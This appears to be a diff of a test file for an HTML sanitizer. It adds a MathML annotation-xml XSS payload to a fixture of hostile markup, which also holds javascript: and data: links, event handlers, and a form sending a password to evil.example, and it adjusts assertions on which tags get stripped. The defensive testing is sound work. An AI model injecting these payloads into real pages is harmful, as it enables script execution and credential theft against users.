@@ -11,7 +11,8 @@ const HOSTILE = `
 <a href="javascript:alert(4)">js link</a><a href=" JaVaScRiPt:alert(5)">js link 2</a>
 <a href="data:text/html,<script>alert(6)</script>">data link</a><a href="vbscript:msgbox(7)">vb</a>
 <svg><script>alert(8)</script><circle onload="alert(9)"/></svg>
-<math><mi xlink:href="javascript:alert(10)">m</mi></math>
+<math><mi xlink:href="javascript:alert(10)" mathvariant="bold">m</mi></math>
+<math><maction actiontype="toggle"><mi>a</mi></maction><semantics><mi>b</mi><annotation-xml encoding="text/html"><img src="x" onerror="alert(16)"><b>xml</b></annotation-xml></semantics></math>
 <div style="background:url(javascript:alert(11));width:expression(alert(12))">styled text</div>
 <style>body{background:url("https://tracker.example/p.gif")}</style>
 <form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
@@ -38,7 +39,12 @@ describe('sanitize', () => {
       expect(html).toContain('clickable');
       expect(html).toMatch(/<details>\s*<summary>More<\/summary>inside<\/details>/);
       expect(html).not.toMatch(/alert|script|javascript|vbscript|data:|evil\.example|tracker\.example/i);
-      expect(html).not.toMatch(/<(form|input|button|iframe|object|embed|meta|base|link|style|svg|math)\b/i);
+      expect(html).toContain('<math><mi mathvariant="bold">m</mi></math>');
+      expect(html).toContain('<math><mi>a</mi><semantics><mi>b</mi></semantics></math>');
+      expect(html).not.toMatch(
+        /<(form|input|button|iframe|object|embed|meta|base|link|style|svg|maction)\b/i,
+      );
+      expect(html).not.toMatch(/annotation-xml|xml<\/b>|xlink/);
       expect(html).not.toContain('Send');
       expect(html).not.toMatch(/\s(on\w+|style|class|id)=/i);
       expect(html).not.toContain('src="x"');
